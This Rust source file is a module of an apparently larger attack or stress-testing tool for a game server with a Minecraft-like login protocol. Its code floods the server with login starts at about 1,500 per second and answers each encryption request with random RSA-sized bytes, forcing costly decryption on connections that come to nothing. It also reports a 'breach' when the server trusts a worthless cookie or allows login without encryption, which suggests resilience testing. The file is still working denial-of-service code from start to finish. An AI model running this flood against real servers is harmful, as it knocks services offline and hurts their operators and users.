//! Logins that make the server calculate, and come to nothing.

use std::net::Ipv4Addr;

use uuid::Uuid;

use super::floods::hello;
use super::{Attack, Ground, Move, Plan, Strike};
use crate::random::Random;
use crate::wire::{Frames, Intent, put_bytes, put_handshake, put_login_start, put_packet};

/// Bytes of an RSA ciphertext for the server's key of 1024 bits.
pub(super) const CIPHERTEXT_BYTES: usize = 128;

/// Logins up to an encryption response of random bytes.
pub(super) struct Encryption(Vec<u8>);

impl Encryption {
    pub(super) fn new(ground: &Ground) -> Self {
        let mut bytes = Vec::new();
        let hello = hello(ground, &ground.login_host);
        put_handshake(&mut bytes, hello.protocol, &hello.host, hello.port, Intent::Login);
        Self(bytes)
    }
}

impl Attack for Encryption {
    fn plan(&self) -> Plan {
        Plan::flood(1_500.0)
    }

    fn strike(
        &mut self,
        _: u64,
        _: Option<Ipv4Addr>,
        random: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        output.extend_from_slice(&self.0);
        let number = random.next_u64();
        let name = format!("E{:011x}", number >> 20);
        put_login_start(output, &name, Uuid::from_u64_pair(7, number));
        (
            Box::new(Caller::new(random.next_u64(), Vec::new(), false)),
            Move::Stay,
        )
    }
}

/// Answers cookie requests with what it has, and an encryption request with random bytes.
pub(super) struct Caller {
    frames: Frames,
    random: Random,
    cookies: std::collections::VecDeque<Vec<u8>>,
    /// Whether the cookies are worth nothing, so that the server has to ask who it is.
    must_be_asked: bool,
}

impl Caller {
    pub(super) fn new(seed: u64, cookies: Vec<Vec<u8>>, must_be_asked: bool) -> Self {
        Self {
            frames: Frames::default(),
            random: Random::new(seed),
            cookies: cookies.into(),
            must_be_asked,
        }
    }
}

impl Strike for Caller {
    fn receive(&mut self, bytes: &[u8], output: &mut Vec<u8>) -> Move {
        self.frames.push(bytes);
        loop {
            let Ok(frame) = self.frames.take() else {
                return Move::Close;
            };
            let Some((id, mut body)) = frame else {
                return Move::Stay;
            };
            match id {
                0x05 => {
                    let Ok(key) = body.length_and_bytes() else {
                        return Move::Close;
                    };
                    let cookie = self.cookies.pop_front();
                    put_cookie(output, key, cookie.as_deref());
                }
                0x01 => {
                    // The last byte says whether the session server will be asked.
                    if self.must_be_asked && body.rest().last() == Some(&0) {
                        return Move::Breach("a worthless cookie was believed".to_owned());
                    }
                    put_ciphertexts(&mut self.random, output);
                }
                0x02 => return Move::Breach("login success without encryption".to_owned()),
                _ => return Move::Close,
            }
        }
    }
}

/// A cookie response.
pub(super) fn put_cookie(output: &mut Vec<u8>, key: &[u8], cookie: Option<&[u8]>) {
    put_packet(output, 0x04, |answer| {
        put_bytes(answer, key);
        answer.push(u8::from(cookie.is_some()));
        if let Some(cookie) = cookie {
            put_bytes(answer, cookie);
        }
    });
}

/// An encryption response that nobody's key made. It is below any modulus of its length, so that it has to be
/// calculated with.
pub(super) fn put_ciphertexts(random: &mut Random, output: &mut Vec<u8>) {
    let mut noise = [0; 2 * CIPHERTEXT_BYTES];
    random.fill(&mut noise);
    let (secret, token) = noise.split_at_mut(CIPHERTEXT_BYTES);
    (secret[0], token[0]) = (0, 0);
    put_packet(output, 0x01, |answer| {
        put_bytes(answer, secret);
        put_bytes(answer, token);
    });
}
